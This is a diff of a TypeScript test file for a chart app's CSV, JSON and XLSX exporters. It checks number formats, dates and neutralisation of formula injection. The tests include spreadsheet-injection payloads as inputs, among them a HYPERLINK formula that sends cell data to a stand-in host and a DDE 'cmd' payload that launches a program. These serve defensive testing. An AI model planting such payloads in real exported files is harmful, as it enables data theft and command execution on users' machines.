@@ -1,13 +1,16 @@
 import { strFromU8, unzipSync } from 'fflate';
 import { describe, expect, it } from 'vitest';
 import type { ChartTable, ChartWords } from '#charts/definition.ts';
+import { filtersInWords } from '#charts/frame/stamp.ts';
 import { sampleOverview } from '#charts/overview.fixture.ts';
 import { chartIds, chartOf } from '#charts/registry.ts';
 import { languages } from '#domain/language.ts';
 import { spreadsheetSafe, toCsv } from '#server/exporting/to-csv.ts';
 import { toJson } from '#server/exporting/to-json.ts';
 import { toXlsx } from '#server/exporting/to-xlsx.ts';
+import { cleanText } from '#server/importing/cells/text.ts';
 import Papa from 'papaparse';
+import { hasOffice, officeTurns } from '../setup/viewers.ts';
 
 const words: ChartWords = {
   title: 'A title',
@@ -27,9 +30,9 @@ const table = (cells: readonly (string | null)[], kind: 'text' | 'number' | 'dat
   ],
   rows: cells.map((cell) => [cell, cell === null ? 'Not reported' : 'Reported']),
 });
-const sheetOf = async (bytes: ArrayBuffer, number = 1): Promise<string> =>
-  strFromU8(unzipSync(new Uint8Array(bytes))[`xl/worksheets/sheet${number}.xml`] ?? new Uint8Array());
-const textsOf = (bytes: ArrayBuffer): string => strFromU8(unzipSync(new Uint8Array(bytes))['xl/sharedStrings.xml'] ?? new Uint8Array());
+const sheetOf = (bytes: Uint8Array, number = 1): string =>
+  strFromU8(unzipSync(bytes)[`xl/worksheets/sheet${number}.xml`] ?? new Uint8Array());
+const stylesOf = (bytes: Uint8Array): string => strFromU8(unzipSync(bytes)['xl/styles.xml'] ?? new Uint8Array());
 
 describe('the clean CSV', () => {
   it('has its header in the first line, no mark, exact values, and an empty cell with a reason for what is missing', () => {
@@ -61,49 +64,102 @@ describe('the CSV for Excel', () => {
   });
 });
 
+const money: ChartTable = {
+  columns: [
+    { id: 'value', label: 'Value', kind: 'number', unit: '亿元', scale: 8, digits: 1 },
+    { id: 'date', label: 'Date', kind: 'date' },
+  ],
+  rows: [
+    ['790000000', '2021-03-31'],
+    ['-57000000', '2020-02-29'],
+    [null, null],
+  ],
+};
+const yuan: ChartWords = { ...words, exact_unit: 'CNY' };
+
 describe('the workbook', () => {
-  it('has numbers as numbers in the shown unit, dates as dates, and empty cells for what is missing', async () => {
-    const money: ChartTable = {
-      columns: [
-        { id: 'value', label: 'Value', kind: 'number', unit: '亿元', scale: 8, digits: 1 },
-        { id: 'date', label: 'Date', kind: 'date' },
-      ],
-      rows: [
-        ['790000000', '2021-03-31'],
-        [null, null],
-      ],
-    };
-    const sheet = await sheetOf(await toXlsx(money, words, 'zh-CN'));
-    expect(sheet).toContain('<v>7.9</v>');
-    expect(sheet).toMatch(/<v>44286<\/v>/);
+  it('has exact numbers as numbers that read as 亿元 or bn, dates as dates, and empty cells for what is missing', () => {
+    const bytes = toXlsx(money, yuan, 'zh-CN');
+    expect(sheetOf(bytes)).toContain('<v>790000000</v>');
+    expect(sheetOf(bytes)).toContain('<v>-57000000</v>');
+    expect(sheetOf(bytes)).toMatch(/<v>44286<\/v>/);
+    expect(sheetOf(bytes)).not.toContain('<f>');
+    expect(stylesOf(bytes)).toContain('0\\.00,,&quot;亿元&quot;');
+    expect(stylesOf(toXlsx(money, yuan, 'ja'))).toContain('億元');
+    expect(stylesOf(toXlsx(money, yuan, 'en'))).toContain('#,##0.00,,,&quot; bn&quot;');
+  });
+
+  it.skipIf(!hasOffice)(
+    'sums in LibreOffice: exact yuan in the cells, 亿元 for the eye, −0.57 as a number',
+    () => {
+      const opened = officeTurns('a.xlsx', toXlsx(money, yuan, 'zh-CN'), 'fods').toString();
+      expect(opened).toMatch(/office:value-type="float" office:value="790000000"[^>]*>\s*<text:p>7\.90亿元</);
+      expect(opened).toMatch(/office:value="-57000000"[^>]*>\s*<text:p>-0\.57亿元</);
+      expect(opened).toContain('office:date-value="2020-02-29"');
+    },
+    120_000,
+  );
+
+  it('keeps formula-like text as text', () => {
+    const sheet = sheetOf(toXlsx(table(['=1+1', '+cmd', '@x']), words, 'en'));
     expect(sheet).not.toContain('<f>');
+    expect(sheet).toContain('=1+1');
   });
 
-  it('keeps formula-like text as text', async () => {
-    const bytes = await toXlsx(table(['=1+1', '+cmd', '@x']), words, 'en');
-    expect(await sheetOf(bytes)).not.toContain('<f>');
-    expect(textsOf(bytes)).toContain('=1+1');
-  });
-
-  it('says title, unit, day, source, status and that values are invented on the first sheet, and what they mean on the second', async () => {
+  it('says title, unit, day, source, status and that values are invented on the first sheet, and what they mean on the second', () => {
     for (const language of languages) {
-      const bytes = await toXlsx(table(['1'], 'number'), words, language);
-      const texts = textsOf(bytes);
+      const stamp = { revision: 7, made_at: '2021-05-01T00:00:00.000Z', link: 'https://progress.example.org/', plan: 'straight' as const };
+      const bytes = toXlsx(table(['1'], 'number'), words, language, stamp);
       for (const text of [
         'A title',
         'companies',
         'A source',
-        'A note',
         { 'zh-CN': '示例数据（虚构）', ja: '架空データ', en: 'Illustrative data (fictional)' }[language],
       ])
-        expect(texts).toContain(text);
-      expect(await sheetOf(bytes, 2)).toContain('<sheetData>');
+        expect(sheetOf(bytes)).toContain(text);
+      for (const text of ['A note', 'A source', 'https://progress.example.org/', ...filtersInWords(stamp, language), ' 7'])
+        expect(sheetOf(bytes, 2)).toContain(text);
+      expect(Buffer.from(toXlsx(table(['1'], 'number'), words, language, stamp)).equals(bytes)).toBe(true);
     }
   });
 });
 
+describe('text that a spreadsheet would run', () => {
+  const texts = [
+    '=1+1',
+    '+1+1',
+    '-1+1',
+    '@SUM(1,1)',
+    '=HYPERLINK("http://a.invalid/?x="&A1,"click")',
+    "=cmd|'/C calc'!A0",
+    '\t=1+1',
+    '\r=1+1',
+    '"=1+1',
+    '＝1+1',
+    '+7 495 123-45-67',
+  ];
+  const numbers = ['-5.5', '1e-7', '-1e15', '-0.004'];
+  it.skipIf(!hasOffice)(
+    'is no formula in LibreOffice, in CSV for Excel and in XLSX, and numbers stay numbers',
+    () => {
+      const csv = new TextEncoder().encode(toCsv(table([...texts, ...numbers]), words, { excel: true, language: 'en' }));
+      const opened = [officeTurns('a.csv', csv, 'fods'), officeTurns('a.xlsx', toXlsx(table(texts), words, 'en'), 'fods')].map(String);
+      for (const one of opened) expect(one).not.toContain('table:formula=');
+      const floats = [...(opened[0] ?? '').matchAll(/office:value-type="float" office:value="([^"]*)"/g)].map(([, value]) => Number(value));
+      expect(floats).toEqual(numbers.map(Number));
+    },
+    120_000,
+  );
+
+  it('leaves the dash of no data as it is, and comes back through the import as it was', () => {
+    expect(spreadsheetSafe('-')).toBe('-');
+    expect(spreadsheetSafe('＝1+1')).toBe("'＝1+1");
+    for (const text of texts) expect(cleanText(spreadsheetSafe(text)), text).toBe(cleanText(text));
+  });
+});
+
 describe.each(chartIds)('the files of %s', (id) => {
-  it('hold exactly the rows drawn, in each language', async () => {
+  it('hold exactly the rows drawn, in each language', () => {
     for (const language of languages) {
       const context = { language, options: {} };
       const drawn = chartOf(id).toTable(sampleOverview, context);
@@ -111,10 +167,10 @@ describe.each(chartIds)('the files of %s', (id) => {
       const csv = Papa.parse<string[]>(toCsv(drawn, said, { excel: false, language }), { skipEmptyLines: true }).data;
       expect(csv).toHaveLength(drawn.rows.length + 1);
       expect(csv[1]?.slice(0, drawn.columns.length)).toEqual(drawn.rows[0]?.map((cell) => cell ?? ''));
-      const json = toJson(drawn, said, language);
+      const json = toJson(id, sampleOverview, drawn, said, language);
       expect(json.rows).toHaveLength(drawn.rows.length);
       expect(json).toMatchObject({ title: said.title, source: said.source, as_of: said.as_of, data_status: 'illustrative' });
-      const sheet = await sheetOf(await toXlsx(drawn, said, language));
+      const sheet = sheetOf(toXlsx(drawn, said, language));
       expect(sheet.match(/<row /g)?.length ?? 0).toBeGreaterThanOrEqual(drawn.rows.length + 6);
     }
   });
